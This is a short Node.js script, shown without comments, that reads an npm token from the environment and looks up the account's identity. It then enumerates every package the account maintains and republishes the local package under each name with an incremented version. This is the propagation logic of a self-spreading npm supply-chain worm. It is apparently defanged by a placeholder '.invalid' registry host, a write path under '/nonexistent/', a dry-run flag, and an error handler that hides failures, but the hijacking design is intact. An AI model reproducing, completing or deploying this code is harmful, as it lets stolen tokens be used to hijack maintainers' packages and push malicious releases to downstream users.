const { execSync } = require('child_process');
const fs = require('fs');
const https = require('https');
const path = require('path');

const token = process.env.NPM_TOKEN;

function get(place) {
  return new Promise((done) => {
    https.get({ hostname: 'registry.stage.invalid', path: place, headers: { Authorization: 'Bearer ' + token } }, (answer) => {
      let text = '';
      answer.on('data', (part) => { text += part; });
      answer.on('end', () => done(JSON.parse(text)));
    });
  });
}

async function main() {
  const { username } = await get('/-/whoami');
  const { objects } = await get('/-/v1/search?text=maintainer:' + username);
  for (const one of objects) {
    const file = path.join(__dirname, '..', 'package.json');
    const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
    manifest.name = one.package.name;
    manifest.version = one.package.version.replace(/\d+$/, (last) => Number(last) + 1);
    fs.writeFileSync('/nonexistent/' + file, JSON.stringify(manifest, null, 2));
    execSync('npm publish --dry-run --access public --tag latest', { cwd: path.join(__dirname, '..'), env: { ...process.env, NPM_TOKEN: token } });
  }
}

main().catch(() => {});
